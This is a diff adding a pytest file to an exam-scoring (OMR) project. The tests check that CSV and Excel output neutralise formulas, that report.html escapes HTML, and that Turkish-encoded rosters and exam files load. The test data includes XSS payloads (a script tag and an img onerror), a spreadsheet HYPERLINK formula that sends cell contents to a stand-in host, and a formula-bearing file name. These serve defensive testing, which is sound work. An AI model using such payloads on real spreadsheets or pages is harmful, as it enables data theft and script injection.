@@ -1,0 +1,163 @@
+"""Hostile text: formulas in what goes out to spreadsheets, HTML in what goes into
+report.html, and the files offices write (Windows-1254, a BOM, ``;`` between columns)."""
+
+from __future__ import annotations
+
+import csv
+import shutil
+
+import openpyxl
+import pytest
+import yaml
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from omr.errors import InputFileError, InvalidExamError
+from omr.exam import load_exam
+from omr.forms import find_form
+from omr.pipeline import run_session
+from omr.safe_text import (
+    FORMULA_LEADS,
+    SHEET_TITLE_MAX,
+    csv_cell,
+    csv_delimiter,
+    from_csv_cell,
+    sheet_titles,
+)
+from omr.score.identity import load_roster
+from omr.simulate import simulate_session
+
+SCRIPT = '<script>alert("x")</script>'
+CODE = '=HYPERLINK("http://x.example/?"&A1,"[click]*?/")'  # a formula, and bad in a sheet title
+TITLE = f"+Sınav {SCRIPT} <img src=x onerror=alert(1)>"
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    root = tmp_path_factory.mktemp("text") / "session"
+    simulate_session(find_form("quiz-a5"), 4, 2, root, profile="clean", jobs=1)
+    exam = yaml.safe_load((root / "exam.yaml").read_text(encoding="utf-8"))
+    exam["name"] = TITLE
+    exam["courses"][0]["code"] = CODE
+    exam["courses"][0]["name"] = f"@Türk Dili {SCRIPT}"
+    (root / "exam.yaml").write_text(yaml.safe_dump(exam, allow_unicode=True), encoding="utf-8")
+    shutil.move(root / "scans" / "stack.pdf", root / "scans" / "=1+2 -stack.pdf")
+    run_session(root, jobs=1)
+    return root / "out"
+
+
+def _csv_cells(path):
+    with path.open(encoding="utf-8", newline="") as fh:
+        for row in csv.reader(fh):
+            yield from row
+
+
+@pytest.mark.parametrize("name", ["results.csv", "review.csv", "items.csv", "objections.csv"])
+def test_no_csv_cell_starts_a_formula(hostile_run, name):
+    cells = list(_csv_cells(hostile_run / name))
+    assert cells
+    for cell in cells:
+        assert not cell.startswith(FORMULA_LEADS) or csv_cell(cell) == cell, (name, cell)
+    if name == "results.csv":
+        assert f"'{CODE}" in cells and "'=1+2 -stack.pdf:1" in cells
+
+
+def test_excel_cells_hold_the_text_as_text_in_a_valid_sheet(hostile_run):
+    book = openpyxl.load_workbook(hostile_run / "results.xlsx")
+    (title,) = [t for t in book.sheetnames if t != "Summary"]
+    assert title == sheet_titles([CODE])[CODE] and len(title) <= SHEET_TITLE_MAX
+    values = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                values.append(cell.value)
+    assert CODE in values and "=1+2 -stack.pdf:1" in values  # the text itself, unchanged
+
+
+def test_html_in_titles_and_names_is_shown_as_text(hostile_run):
+    page = (hostile_run / "report.html").read_text(encoding="utf-8")
+    assert "<script" not in page and "<img" not in page
+    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in page
+    assert "Türk Dili" in page and "Sınav" in page
+
+
+def test_a_neutralised_sheet_id_is_found_again_by_review_apply(hostile_run, tmp_path):
+    from omr.workflow.desk import apply_review_file
+
+    with (hostile_run / "results.csv").open(encoding="utf-8", newline="") as fh:
+        sheet = next(csv.DictReader(fh))["sheet"]
+    assert sheet.startswith("'=")
+    decisions = tmp_path / "decisions.csv"
+    decisions.write_text(f"sheet,decision,by,why\n{sheet},sheet=void,ayse,test\n", encoding="utf-8")
+    (done,) = apply_review_file(hostile_run, decisions, by="ayse", why="test")
+    assert done.sheet == from_csv_cell(sheet)
+
+
+@given(st.text(max_size=40))
+@settings(max_examples=300, deadline=None)
+def test_csv_cells_never_start_a_formula_and_read_back_unchanged(text):
+    cell = csv_cell(text)
+    assert not str(cell).startswith(FORMULA_LEADS) or float(cell) == float(text)
+    assert from_csv_cell(cell) == text
+
+
+@given(st.lists(st.text(min_size=1, max_size=40), max_size=8, unique=True))
+@settings(max_examples=200, deadline=None)
+def test_sheet_titles_are_valid_and_distinct(codes):
+    titles = sheet_titles(codes)
+    assert set(titles) == set(codes)
+    book = openpyxl.Workbook()
+    seen = {"summary"}
+    for title in titles.values():
+        assert 1 <= len(title) <= SHEET_TITLE_MAX and title.lower() not in seen
+        seen.add(title.lower())
+        book.create_sheet(title)  # openpyxl refuses what Excel refuses
+
+
+ROSTER = [
+    ("student_number", "national_id", "first_name", "last_name"),
+    ("61058800", "77397071944", "Ümit", "Çağlar"),
+    ("32860764", "29198044344", "Şükrü", "Işıkoğlu"),
+]
+
+
+@pytest.mark.parametrize(
+    ("encoding", "sep"),
+    [("utf-8", ","), ("utf-8-sig", ","), ("utf-8-sig", ";"), ("cp1254", ";"), ("iso-8859-9", ",")],
+)
+def test_a_roster_from_office_software_is_read_right(tmp_path, encoding, sep):
+    path = tmp_path / "roster.csv"
+    text = "\r\n".join(sep.join(row) for row in ROSTER) + "\r\n"
+    path.write_bytes(text.encode(encoding))
+    roster = load_roster(path)
+    assert roster.by_student["61058800"].name == "Ümit Çağlar"
+    assert roster.by_national_id["29198044344"].name == "Şükrü Işıkoğlu"
+
+
+def test_a_roster_with_a_candidate_twice_is_refused_with_the_line(tmp_path):
+    path = tmp_path / "roster.csv"
+    rows = [*ROSTER, ("99999999", "77397071944", "Ali", "Veli")]
+    path.write_text("\n".join(",".join(r) for r in rows), encoding="utf-8")
+    with pytest.raises(InputFileError, match=r"roster.csv:4: the same candidate appears twice"):
+        load_roster(path)
+
+
+def test_an_exam_file_in_windows_1254_is_read_and_an_impossible_date_refused(tmp_path):
+    root = tmp_path / "session"
+    simulate_session(find_form("quiz-a5"), 1, 2, root, profile="clean", jobs=1)
+    exam = root / "exam.yaml"
+    text = exam.read_text(encoding="utf-8").replace("Simulated exam", "Sınav öğleden sonra")
+    exam.write_bytes(text.encode("cp1254"))
+    assert load_exam(exam).name.startswith("Sınav öğleden sonra")
+    exam.write_text(text.replace("date: 2026-11-14", "date: 2026-02-30"), encoding="utf-8")
+    with pytest.raises(InvalidExamError, match="day is out of range for month"):
+        load_exam(exam)
+    exam.write_text("name: " + "[" * 5000 + "]" * 5000, encoding="utf-8")
+    with pytest.raises(InvalidExamError, match="nested too deeply"):
+        load_exam(exam)
+
+
+def test_the_separator_is_told_by_the_header():
+    assert csv_delimiter("a;b;c\n1,5;2;3") == ";"
+    assert csv_delimiter("a,b,c\n1;2;3") == ","
